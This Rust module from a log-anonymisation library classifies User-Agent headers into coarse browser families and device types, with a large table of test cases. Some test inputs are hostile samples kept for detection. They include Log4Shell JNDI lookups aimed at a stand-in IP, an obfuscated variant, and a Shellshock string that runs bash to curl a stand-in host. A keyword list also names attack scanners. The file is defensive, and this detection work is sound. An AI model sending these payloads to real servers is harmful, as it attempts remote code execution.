//! User agents reduced to a coarse family and device class.
//!
//! A full `User-Agent` header identifies a browser build, an operating system
//! version and often a device model; together with a truncated address it is
//! a fingerprint. This module owns the reduction that keeps statistics by
//! browser family possible without that: [`family`] maps a user agent to one
//! of the [`FAMILIES`] and [`device`] to one of the [`DEVICES`]. The classes
//! are deliberately coarse: no browser versions, no operating system or OS
//! version, no device models, no rendering engines.
//!
//! # Families
//!
//! The first rule that applies wins:
//!
//! 1. `Bot`: an automated agent that is not run on behalf of a person at a
//!    browser: crawlers, spiders and other self-declared robots (any word
//!    containing `bot`, `crawl`, `spider`, ...), agents that give a contact
//!    URL (`+http://...`, or any `http://` / `https://` in the header, which
//!    no browser sends), uptime and health monitors (`check_http`, Pingdom,
//!    `kube-probe`, ...), link-preview and feed fetchers, headless or
//!    scripted browsers (HeadlessChrome, PhantomJS, Lighthouse), security
//!    scanners (Nikto, sqlmap, Nmap, ...), exploit payloads sent as a user
//!    agent (Log4Shell `${jndi:...}` lookups, Shellshock `() {`) and the web
//!    server's own internal connections.
//! 2. `Tool`: an HTTP library or command-line client that names itself and
//!    neither a robot nor a contact URL: curl, Wget, python-requests and
//!    urllib, Go's `Go-http-client`, OkHttp, Java, libwww-perl,
//!    Apache-HttpClient, PowerShell, axios, Postman, the Android and iOS
//!    system HTTP stacks of apps (`Dalvik`, `CFNetwork`), ... These are kept
//!    apart from `Bot` because they are as often a person or a site's own
//!    integration (e.g. a Java LMS calling a web service) as a crawler.
//! 3. `MoodleMobile`: the Moodle app, whose web views append
//!    `MoodleMobile <version>` to the platform's browser user agent.
//! 4. `Edge`, `Opera`, `SamsungBrowser`: Chromium browsers that name
//!    themselves next to `Chrome` and `Safari` (`Edg/`, `EdgA/`, `EdgiOS/`,
//!    legacy `Edge/`; `OPR/`, `OPT/`, `OPiOS`, Presto `Opera`;
//!    `SamsungBrowser/`).
//! 5. `IE`: `MSIE`, `Trident/`, `IEMobile`.
//! 6. `Firefox`: `Firefox/` and iOS `FxiOS/`.
//! 7. `Chrome`: `Chrome/`, `Chromium/` and iOS `CriOS/`, and so every other
//!    Chromium browser that does not name itself (Brave, Vivaldi, Android web
//!    views, Amazon Silk, ...).
//! 8. `Safari`: `Safari/` without any of the above, except on Android (the
//!    old Android stock browser is `Other`).
//! 9. `Other`: everything else, including `-`, the empty string, iOS in-app
//!    web views without a `Safari` token and unknown programs.
//!
//! # Matching
//!
//! The header is read once, as bytes, in words of ASCII letters (digits,
//! punctuation and non-ASCII bytes separate words, so invalid UTF-8 is
//! harmless). Each word is compared ASCII case-insensitively with a fixed
//! vocabulary; words outside it are searched for a few robot and library
//! fragments. Log escapes are skipped as separators: Apache's `\"` and `\\`
//! and the `\xHH` escapes of nginx and Apache, so `\x5CFirefox` still shows
//! `Firefox`. Nothing is allocated.

/// Every value [`family`] returns. Plain ASCII without spaces or quotes, so a
/// family can replace a quoted log field as it is.
pub const FAMILIES: &[&str] = &[
    "Bot",
    "Tool",
    "MoodleMobile",
    "Edge",
    "Opera",
    "SamsungBrowser",
    "IE",
    "Firefox",
    "Chrome",
    "Safari",
    "Other",
];

/// Every value [`device`] returns.
pub const DEVICES: &[&str] = &["mobile", "tablet", "desktop", "bot", "unknown"];

// What the words of a user agent say, as bits.
const BOT: u32 = 1;
const TOOL: u32 = 1 << 1;
const MOODLE: u32 = 1 << 2;
const EDGE: u32 = 1 << 3;
const OPERA: u32 = 1 << 4;
const SAMSUNG: u32 = 1 << 5;
const IE: u32 = 1 << 6;
const FIREFOX: u32 = 1 << 7;
const CHROME: u32 = 1 << 8;
const SAFARI: u32 = 1 << 9;
const ANDROID: u32 = 1 << 10;
const PHONE: u32 = 1 << 11;
const TABLET: u32 = 1 << 12;
const DESKTOP: u32 = 1 << 13;

/// Fragments of otherwise unknown words that mark a robot (lowercase).
const BOT_PARTS: &[&[u8]] = &[
    b"bot",
    b"crawl",
    b"spider",
    b"scan",
    b"check",
    b"monitor",
    b"uptime",
    b"feed",
    b"fetcher",
    b"external",
    b"archiv",
    b"index",
    b"preview",
    b"valid",
    b"survey",
    b"headless",
    b"fuzz",
];

/// Fragments of otherwise unknown words that mark an HTTP library (lowercase).
const TOOL_PARTS: &[&[u8]] = &[b"http", b"curl", b"python"];

/// Longest word compared with the vocabulary.
const MAX_WORD: usize = 24;

/// A coarse user-agent family: one of [`FAMILIES`].
///
/// `ua` is the header value as logged (without the surrounding quotes; they
/// are harmless if present), possibly with log escapes and not UTF-8. See the
/// module documentation for the families and the order of the rules.
///
/// ```
/// use anonlog::useragent::family;
///
/// let ua = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
///            (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51";
/// assert_eq!(family(ua), "Edge");
/// assert_eq!(family(b"curl/7.68.0"), "Tool");
/// assert_eq!(family(b"-"), "Other");
/// ```
pub fn family(ua: &[u8]) -> &'static str {
    let seen = scan(ua);
    if seen & BOT != 0 {
        "Bot"
    } else if seen & TOOL != 0 {
        "Tool"
    } else if seen & MOODLE != 0 {
        "MoodleMobile"
    } else if seen & EDGE != 0 {
        "Edge"
    } else if seen & OPERA != 0 {
        "Opera"
    } else if seen & SAMSUNG != 0 {
        "SamsungBrowser"
    } else if seen & IE != 0 {
        "IE"
    } else if seen & FIREFOX != 0 {
        "Firefox"
    } else if seen & CHROME != 0 {
        "Chrome"
    } else if seen & SAFARI != 0 && seen & ANDROID == 0 {
        "Safari"
    } else {
        "Other"
    }
}

/// A coarse device class: `"mobile"`, `"tablet"`, `"desktop"`, `"bot"` or
/// `"unknown"` (one of [`DEVICES`]).
///
/// `"bot"` exactly when [`family`] is `Bot`; `"unknown"` for a `Tool` (the
/// header says nothing about who runs it) and whenever no platform is named.
/// Otherwise: iPad, `Tablet`, Kindle and Silk, and Android without `Mobile`,
/// are tablets; iPhone, iPod, `Mobile`, `Mobi`, Windows Phone and BlackBerry
/// are phones, and so is the Moodle app when its user agent names no
/// platform; Windows, macOS, Linux, ChromeOS, BSD and X11 are desktops. An
/// iPad asking for the desktop site (the default since iPadOS 13) looks like
/// a Mac and counts as a desktop.
///
/// ```
/// use anonlog::useragent::device;
///
/// let ua = b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
///            (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1";
/// assert_eq!(device(ua), "mobile");
/// assert_eq!(device(b"curl/7.68.0"), "unknown");
/// ```
pub fn device(ua: &[u8]) -> &'static str {
    let seen = scan(ua);
    if seen & BOT != 0 {
        "bot"
    } else if seen & TOOL != 0 {
        "unknown"
    } else if seen & TABLET != 0 {
        "tablet"
    } else if seen & PHONE != 0 {
        "mobile"
    } else if seen & ANDROID != 0 {
        "tablet"
    } else if seen & MOODLE != 0 {
        "mobile"
    } else if seen & DESKTOP != 0 {
        "desktop"
    } else {
        "unknown"
    }
}

/// Reads `ua` word by word and collects what the words say. Stops early at
/// the first robot marker, which decides both family and device.
fn scan(ua: &[u8]) -> u32 {
    let mut seen = 0;
    let mut i = 0;
    while i < ua.len() {
        let b = ua[i];
        if b.is_ascii_alphabetic() {
            let start = i;
            while i < ua.len() && ua[i].is_ascii_alphabetic() {
                i += 1;
            }
            let prev = if start > 0 { ua[start - 1] } else { 0 };
            seen |= word(&ua[start..i], prev, &ua[i..]);
            if seen & BOT != 0 {
                return seen;
            }
        } else if (b == b'$' && ua.get(i + 1) == Some(&b'{'))
            || (b == b'(' && ua[i..].starts_with(b"() {"))
        {
            // A Log4Shell-style `${...}` lookup or a Shellshock `() {`
            // function: an exploit scanner, never a browser.
            return seen | BOT;
        } else if b == b'\\' {
            // `\xHH` (nginx, Apache) or `\"`, `\\`, `\n`, ... (Apache).
            let hex = ua.len() > i + 3
                && ua[i + 1] == b'x'
                && ua[i + 2].is_ascii_hexdigit()
                && ua[i + 3].is_ascii_hexdigit();
            i += if hex { 4 } else { 2 };
        } else {
            i += 1;
        }
    }
    seen
}

/// What one word says. `w` is a run of ASCII letters, `prev` the byte before
/// it (0 at the start) and `rest` everything after it.
fn word(w: &[u8], prev: u8, rest: &[u8]) -> u32 {
    if w.len() <= MAX_WORD {
        let mut buf = [0u8; MAX_WORD];
        let lower = &mut buf[..w.len()];
        for (d, s) in lower.iter_mut().zip(w) {
            *d = s.to_ascii_lowercase();
        }
        let slash = rest.first() == Some(&b'/');
        match &*lower {
            // The common vocabulary of browser user agents: nothing to learn,
            // and no need to look for fragments.
            b"mozilla" | b"applewebkit" | b"khtml" | b"like" | b"gecko" | b"version" | b"nt"
            | b"win" | b"wow" | b"intel" | b"mac" | b"os" | b"cpu" | b"rv" | b"compatible"
            | b"build" | b"wv" | b"presto" | b"arm" | b"touch" | b"en" | b"us" | b"de" | b"u"
            | b"k" | b"x" | b"e" | b"am" | b"sm" | b"samsung" | b"pixel" | b"microsoft" => {
                if lower == b"x" && rest.starts_with(b"11") {
                    DESKTOP
                } else {
                    0
                }
            }

            b"moodlemobile" => MOODLE,
            b"edga" | b"edgios" => EDGE,
            b"edg" | b"edge" if slash => EDGE,
            b"opera" | b"opios" => OPERA,
            b"opr" | b"opt" if slash => OPERA,
            b"samsungbrowser" => SAMSUNG,
            b"msie" | b"trident" => IE,
            b"iemobile" => IE | PHONE,
            b"firefox" | b"fxios" => FIREFOX,
            b"chrome" | b"chromium" | b"crios" => CHROME,
            b"safari" => SAFARI,

            b"android" => ANDROID,
            b"iphone" | b"ipod" | b"mobile" | b"mobi" | b"phone" | b"blackberry" | b"midp"
            | b"symbian" | b"symbos" => PHONE,
            b"ipad" | b"tablet" | b"kindle" | b"silk" | b"playbook" => TABLET,
            b"windows" | b"macintosh" | b"linux" | b"cros" | b"ubuntu" | b"fedora" | b"freebsd"
            | b"openbsd" | b"netbsd" => DESKTOP,

            // A contact URL (`+http://...`, `(http://...)`); `http` in a
            // library name (`Go-http-client`) is not one.
            b"http" | b"https" => {
                if prev == b'+' || rest.starts_with(b"://") {
                    BOT
                } else {
                    0
                }
            }
            // A phone brand, not a robot.
            b"cubot" => 0,
            b"slurp" | b"nikto" | b"sqlmap" | b"nmap" | b"zgrab" | b"nuclei" | b"acunetix"
            | b"nessus" | b"openvas" | b"wpscan" | b"gobuster" | b"dirbuster" | b"httrack"
            | b"scrapy" | b"phantomjs" | b"lighthouse" | b"pingdom" | b"statuscake" | b"nagios"
            | b"zabbix" | b"probe" | b"googlehc" | b"googleother" | b"mediapartners"
            | b"chatgpt" | b"whatsapp" | b"censysinspect" | b"expanse" | b"dummy" => BOT,

            b"go" => {
                if starts_with_ci(rest, b"-http-client") {
                    TOOL
                } else {
                    0
                }
            }
            b"curl" | b"libcurl" | b"wget" | b"python" | b"aiohttp" | b"httpx" | b"httpie"
            | b"okhttp" | b"java" | b"libwww" | b"lwp" | b"perl" | b"php" | b"ruby" | b"axios"
            | b"undici" | b"postmanruntime" | b"insomnia" | b"powershell"
            | b"windowspowershell" | b"guzzlehttp" | b"faraday" | b"dart" | b"dalvik"
            | b"cfnetwork" | b"winhttp" | b"restsharp" | b"mechanize" => TOOL,

            _ => unknown(w),
        }
    } else {
        unknown(w)
    }
}

/// A word outside the vocabulary: a robot or library if it contains one of
/// their fragments.
fn unknown(w: &[u8]) -> u32 {
    if w.len() < 3 {
        0
    } else if BOT_PARTS.iter().any(|p| contains_ci(w, p)) {
        BOT
    } else if TOOL_PARTS.iter().any(|p| contains_ci(w, p)) {
        TOOL
    } else {
        0
    }
}

/// `hay` contains `needle` (lowercase), ignoring ASCII case.
fn contains_ci(hay: &[u8], needle: &[u8]) -> bool {
    hay.len() >= needle.len()
        && hay
            .windows(needle.len())
            .any(|h| h.eq_ignore_ascii_case(needle))
}

/// `hay` starts with `prefix` (lowercase), ignoring ASCII case.
fn starts_with_ci(hay: &[u8], prefix: &[u8]) -> bool {
    hay.len() >= prefix.len() && hay[..prefix.len()].eq_ignore_ascii_case(prefix)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Real-world user agents (and a few hostile ones) with their family and
    /// device.
    const CASES: &[(&[u8], &str, &str)] = &[
        // Firefox
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
            "Firefox",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "Firefox",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (X11; FreeBSD amd64; rv:124.0) Gecko/20100101 Firefox/124.0",
            "Firefox",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0",
            "Firefox",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (Android 13; Tablet; rv:125.0) Gecko/125.0 Firefox/125.0",
            "Firefox",
            "tablet",
        ),
        (
            b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) FxiOS/125.0 Mobile/15E148 Safari/605.1.15",
            "Firefox",
            "mobile",
        ),
        // Chrome
        (
            b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Chrome",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Chrome",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Chrome",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
            "Chrome",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
            "Chrome",
            "tablet",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
            "Chrome",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1",
            "Chrome",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) \
              Silk/124.3.1 like Chrome/124.0.6367.179 Safari/537.36",
            "Chrome",
            "tablet",
        ),
        // Safari
        (
            b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
            "Safari",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Version/16.6 Mobile/15E148 Safari/604.1",
            "Safari",
            "tablet",
        ),
        (
            b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
            "Safari",
            "desktop",
        ),
        // Edge
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
            "Edge",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/70.0.3538.102 Safari/537.36 Edge/18.19045",
            "Edge",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) \
              Chrome/124.0.0.0 Mobile Safari/537.36 EdgA/124.0.0.0",
            "Edge",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Version/17.0 EdgiOS/124.2478.50 Mobile/15E148 Safari/605.1.15",
            "Edge",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (Windows Phone 10.0; Android 6.0.1; Microsoft; Lumia 950) \
              AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Mobile Safari/537.36 \
              Edge/15.15063",
            "Edge",
            "mobile",
        ),
        // Opera
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 OPR/109.0.0.0",
            "Opera",
            "desktop",
        ),
        (
            b"Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18",
            "Opera",
            "desktop",
        ),
        (
            b"Opera/9.80 (J2ME/MIDP; Opera Mini/9.80 (S60; SymbOS; Opera Mobi/23.348; U; en) \
              Presto/2.5.25 Version/10.54",
            "Opera",
            "mobile",
        ),
        // Samsung Internet
        (
            b"Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S911B) AppleWebKit/537.36 \
              (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
            "SamsungBrowser",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 \
              (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Safari/537.36",
            "SamsungBrowser",
            "tablet",
        ),
        // Internet Explorer
        (
            b"Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
            "IE",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
            "IE",
            "desktop",
        ),
        // The Moodle app
        (b"MoodleMobile 4.4.0 (44000)", "MoodleMobile", "mobile"),
        (
            b"Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230901.001; wv) \
              AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 \
              Mobile Safari/537.36 MoodleMobile 4.4.0 (44000)",
            "MoodleMobile",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Mobile/15E148 MoodleMobile 4.4.0 (44000)",
            "MoodleMobile",
            "tablet",
        ),
        // Robots
        (
            b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 \
              (KHTML, like Gecko) Chrome/124.0.6367.118 Mobile Safari/537.36 \
              (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; \
              +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
            "Bot",
            "bot",
        ),
        (
            b"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
            "Bot",
            "bot",
        ),
        (
            b"check_http/v2.3.3 (monitoring-plugins 2.3.3)",
            "Bot",
            "bot",
        ),
        (b"kube-probe/1.29", "Bot", "bot"),
        (
            b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
              HeadlessChrome/124.0.6367.60 Safari/537.36",
            "Bot",
            "bot",
        ),
        (b"MoodleBot/1.0", "Bot", "bot"),
        (
            b"Apache/2.4.58 (Ubuntu) (internal dummy connection)",
            "Bot",
            "bot",
        ),
        (
            b"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)",
            "Bot",
            "bot",
        ),
        (b"sqlmap/1.7.2#stable (https://sqlmap.org)", "Bot", "bot"),
        (b"${jndi:ldap://198.51.100.7:1389/a}", "Bot", "bot"),
        (
            b"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://example.org/x}",
            "Bot",
            "bot",
        ),
        (
            b"() { :; }; /bin/bash -c \"curl http://198.51.100.7/x\"",
            "Bot",
            "bot",
        ),
        // Libraries and command-line clients
        (b"curl/7.68.0", "Tool", "unknown"),
        (b"CURL/8.4.0", "Tool", "unknown"),
        (b"Wget/1.21.2", "Tool", "unknown"),
        (b"Wget/1.20.3 (linux-gnu)", "Tool", "unknown"),
        (b"python-requests/2.31.0", "Tool", "unknown"),
        (b"Python-urllib/3.10", "Tool", "unknown"),
        (b"Go-http-client/1.1", "Tool", "unknown"),
        (b"okhttp/4.12.0", "Tool", "unknown"),
        (b"Sakai Java/1.8.0_171", "Tool", "unknown"),
        (b"libwww-perl/6.72", "Tool", "unknown"),
        (b"Apache-HttpClient/4.5.14 (Java/17.0.8)", "Tool", "unknown"),
        (
            b"Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
            "Tool",
            "unknown",
        ),
        (
            b"Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
            "Tool",
            "unknown",
        ),
        // Everything else
        (b"-", "Other", "unknown"),
        (b"", "Other", "unknown"),
        (b"gPXE/0.9.7", "Other", "unknown"),
        (
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) \
              Chrome/131.0.0.0 Safari/537.36 Vivaldi/7.0",
            "Chrome",
            "desktop",
        ),
        (
            b"Mozilla/5.0 (Linux; U; Android 4.0.3; ko-kr; LG-L160L Build/IML74K) \
              AppleWebkit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
            "Other",
            "mobile",
        ),
        (
            b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Mobile/15E148",
            "Other",
            "mobile",
        ),
        // Log escapes
        (
            br#"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 \"injected\""#,
            "Chrome",
            "desktop",
        ),
        (
            br"Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 \x5CFirefox/125.0\x22",
            "Firefox",
            "desktop",
        ),
        (br#"\"curl/8.0\""#, "Tool", "unknown"),
        (br"\x22Googlebot\x22", "Bot", "bot"),
        // Not UTF-8
        (
            b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) \xff\xfe AppleWebKit/605.1.15 \
              (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
            "Safari",
            "desktop",
        ),
        (b"\xc0\xc1curl/8.0\xff", "Tool", "unknown"),
        (
            br#"Dalvik/2.1.0 (Linux; U; Android 10; Alba 10\" Build/QP1A)"#,
            "Tool",
            "unknown",
        ),
        (b"\xe9\x80\xff\xfe", "Other", "unknown"),
    ];

    #[test]
    fn table() {
        let mut bad = Vec::new();
        for &(ua, fam, dev) in CASES {
            let (f, d) = (family(ua), device(ua));
            if (f, d) != (fam, dev) {
                bad.push(format!(
                    "{:?}: got {f}/{d}, want {fam}/{dev}",
                    String::from_utf8_lossy(ua)
                ));
            }
        }
        assert!(bad.is_empty(), "{}", bad.join("\n"));
        assert!(CASES.len() >= 25);
    }

    #[test]
    fn table_covers_every_class() {
        for f in FAMILIES {
            assert!(CASES.iter().any(|c| c.1 == *f), "no case for {f}");
        }
        for d in DEVICES {
            assert!(CASES.iter().any(|c| c.2 == *d), "no case for {d}");
        }
    }

    #[test]
    fn tokens_are_plain() {
        for t in FAMILIES.iter().chain(DEVICES) {
            assert!(!t.is_empty());
            assert!(t.bytes().all(|b| b.is_ascii_alphanumeric()), "{t}");
        }
    }

    #[test]
    fn truncated_escapes_and_long_words() {
        for ua in [&b"\\"[..], b"\\x", b"\\x2", b"Chrome\\", b"a\\x2"] {
            assert!(FAMILIES.contains(&family(ua)));
            assert!(DEVICES.contains(&device(ua)));
        }
        let long = [b'a'; 4096];
        assert_eq!(family(&long), "Other");
        let mut crawler = b"Mozilla/5.0 (compatible; ".to_vec();
        crawler.extend_from_slice(&[b'q'; 40]);
        crawler.extend_from_slice(b"Crawler/1.0)");
        assert_eq!(family(&crawler), "Bot");
    }

    mod prop {
        use super::super::*;
        use proptest::prelude::*;

        proptest! {
            #[test]
            fn always_a_known_token(ua in proptest::collection::vec(any::<u8>(), 0..300)) {
                prop_assert!(FAMILIES.contains(&family(&ua)));
                prop_assert!(DEVICES.contains(&device(&ua)));
                prop_assert_eq!(family(&ua) == "Bot", device(&ua) == "bot");
            }
        }
    }
}
